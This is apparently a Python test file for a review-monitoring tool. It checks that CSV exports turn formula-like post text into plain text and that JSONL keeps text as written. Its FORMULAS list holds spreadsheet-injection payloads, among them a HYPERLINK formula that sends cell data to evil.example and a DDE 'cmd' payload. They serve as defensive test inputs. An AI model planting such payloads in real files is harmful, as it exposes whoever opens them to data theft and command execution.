"""`kulak export`'s rows, from posts stored as the collectors store them. Posts are
untrusted: no CSV cell is a formula to a spreadsheet; JSON lines keep the text as written."""

import csv
import io
import json
from datetime import UTC, datetime

from monitor.crawl import collect
from monitor.export import export_rows, write_csv, write_jsonl
from monitor.replay import Reply
from tests.helpers import fixture_text, make_settings, record, run, runtime_for

AT = datetime(2026, 12, 5, 9, 0, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Kahve Durağı iade")',
    "=cmd|' /C calc'!A0 Kahve Durağı",
    "+90 532 Kahve Durağı",
    "-2+3 Kahve Durağı",
    "@SUM(1+1) Kahve Durağı",
    "\t=1+1 Kahve Durağı",
    "\r=1+1 Kahve Durağı",
]
APP_PAGE = "/tr/rss/customerreviews/page=1/id=1580000001/sortby=mostrecent/json"


def test_author_is_the_name_where_a_source_has_no_handles(replay, sqlite_store):
    reviews = json.loads(fixture_text("appstore", "single.json"))
    replay.add(APP_PAGE, Reply(200, reviews))
    settings = make_settings(
        f"""
sources:
  appstore:
    base_url: {replay.url}
    backoff: 10ms
    apps: {{1580000001: Kahve Durağı}}
    countries: [tr]
"""
    )
    runtime = runtime_for(settings, sqlite_store)
    assert run(collect(runtime, settings.source("appstore"))).new_posts == 1
    sqlite_store.save([record(7, datetime(2026, 11, 20, tzinfo=UTC), "Demlik", author="ayse_k")])

    rows = {row["source"]: row for row in export_rows(sqlite_store.iter_posts())}
    out = io.StringIO()
    write_csv(sqlite_store.iter_posts(), out)

    name = reviews["feed"]["entry"]["author"]["name"]["label"]
    assert rows["appstore"]["author"] == name and rows["hackernews"]["author"] == "ayse_k"
    csv_authors = {
        line["source"]: line["author"] for line in csv.DictReader(io.StringIO(out.getvalue()))
    }
    assert csv_authors == {"appstore": name, "hackernews": "ayse_k"}


def test_csv_cells_that_would_be_formulas_are_text(sqlite_store):
    records = [record(n, AT, "Kahve Durağı", "neg", text=t) for n, t in enumerate(FORMULAS, 1)]
    records.append(record(99, AT, "Kahve Durağı", "neg", author="=evil", text="Kahve Durağı ok"))
    sqlite_store.save(records)
    out = io.StringIO()
    assert write_csv(sqlite_store.iter_posts(), out) == len(FORMULAS) + 1

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    texts = {row["text"] for row in rows}
    assert texts == {"'" + text for text in FORMULAS} | {"Kahve Durağı ok"}
    assert {row["author"] for row in rows} >= {"'=evil", "someone"}
    assert {row["compound"] for row in rows} == {"-0.6"}  # a negative number stays a number


def test_jsonl_keeps_the_text_as_written(sqlite_store):
    sqlite_store.save([record(1, AT, "Kahve Durağı", text=FORMULAS[0])])
    out = io.StringIO()
    write_jsonl(sqlite_store.iter_posts(), out)
    assert json.loads(out.getvalue())["text"] == FORMULAS[0]
